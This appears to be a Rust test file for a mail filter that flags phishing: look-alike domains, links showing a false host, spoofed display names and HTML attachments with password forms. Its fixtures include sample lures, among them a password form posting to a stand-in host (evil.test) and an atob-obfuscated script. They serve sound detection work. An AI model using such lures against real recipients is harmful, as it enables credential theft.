//! Mail that poses as an organisation here, and mail that only looks odd.

use bytes::Bytes;

use super::*;
use crate::directory::sample;
use crate::filter::links;
use crate::filter::parsed::{Saved, Text};

/// Finds with `timber-mill.example` served; links from the HTML.
fn check_all(head: &str, html: &str, proved: bool, list: bool) -> Vec<(String, Option<Class>)> {
    let mut organisation = sample::organisation("demo");
    organisation.domains = vec![Domain::parse("timber-mill.example").unwrap()];
    let directory = Directory::new(vec![organisation]).unwrap();
    let served = Served::new(&directory.organisations());
    let message = Message::new(Bytes::from(format!("{head}\r\n\r\n{html}")));
    let part = Part {
        name: None,
        media: "text/html".into(),
        content: html.as_bytes(),
        text: Some(Text::Html),
        saved: Saved::Same,
    };
    let (links, from) = (links::find(&[part]), message.from());
    let weights = Weights::default();
    let known = (&directory, &served);
    let found = super::check(&message, from.address(), proved, list, &links, known, &weights);
    found.into_iter().map(|(finding, class)| (finding.id, class)).collect()
}

fn found(head: &str, html: &str) -> Vec<(String, Option<Class>)> {
    check_all(head, html, false, false)
}

fn phishing(id: &str) -> Vec<(String, Option<Class>)> {
    vec![(id.to_owned(), Some(Class::Phishing))]
}

#[test]
fn look_alikes_of_served_domains() {
    assert_eq!(found("From: Boss <boss@tirnber-mill.example>", ""), phishing("look-alike"));
    let reply = "From: Boss <x@mail.example>\r\nReply-To: boss@timber-mi11.example";
    assert_eq!(found(reply, ""), phishing("look-alike"));
    let link = "<p>https://timber-mill.example.portal.evil.test/login</p>";
    assert_eq!(found("From: x@mail.example", link), phishing("look-alike"));
    assert!(found("From: x@mail.example", "<p>https://timber-mill.example/jobs</p>").is_empty());
    assert!(found("From: Boss <boss@sawmill.example>", "").is_empty());
}

#[test]
fn links_that_show_another_host_than_their_own() {
    let from = "From: x@mail.example";
    let poses = "<a href=\"https://evil.test/\">https://portal.timber-mill.example/</a>";
    assert_eq!(found(from, poses), phishing("link-poses"));
    // A newsletter that counts its readers.
    let counts = "<a href=\"https://click.platform.example/1\">www.shop.example</a>";
    assert_eq!(found(from, counts), [("link-differs".to_owned(), None)]);
    assert_eq!(found(from, &format!("{counts}{poses}")), phishing("link-poses"), "the worst");
    let same = "<a href=\"https://go.shop.example/1\">www.shop.example</a>";
    assert!(found(from, same).is_empty());
    assert_eq!(check_all(from, poses, true, false), [("link-poses".to_owned(), None)], "proved");
    let quoted = "<a href=\"https://eur01.safelinks.protection.outlook.com/?u=1\">\
                  https://timber-mill.example/</a>";
    assert!(found(from, quoted).is_empty(), "rewritten on its way");
    let own = "<a href=\"https://timber-mill.example/\">https://www.timber-mill.example/</a>";
    assert!(found(from, own).is_empty());
}

#[test]
fn display_names_that_show_a_served_address() {
    let poses = "From: \"Anna anna@timber-mill.example\" <anna@mail.test>";
    assert_eq!(found(poses, ""), phishing("name-imitates"));
    assert_eq!(check_all(poses, "", true, false), [("name-imitates".to_owned(), None)], "proved");
    // A discussion list writes so, and one of us with a proof may.
    assert!(check_all(poses, "", false, true).is_empty());
    let ours = "From: \"anna@timber-mill.example\" <anna@timber-mill.example>";
    assert!(check_all(ours, "", true, false).is_empty());
    assert!(found("From: \"bob@mail.test\" <bob@mail.test>", "").is_empty());
    assert!(found("From: \"Anna\" <anna@mail.test>", "").is_empty());
}

#[test]
fn files_that_ask_for_a_password() {
    let file = |name, content: &'static str, text| {
        let media = String::new();
        has_form(&Part {
            name: Some(name),
            media,
            content: content.as_bytes(),
            text,
            saved: Saved::Same,
        })
    };
    let form = "<form action=https://evil.test><INPUT TYPE=\"PassWord\" name=p></form>";
    assert!(file("invoice.html", form, None));
    assert!(file("voice.SHTML", form, None));
    let hidden = "<script>document.write(atob('PGZvcm0+'))</script>";
    assert!(file("scan.htm", hidden, None));
    assert!(!file("report.html", "<form><input type=search></form>", None));
    assert!(!file("page.txt", form, None));
}
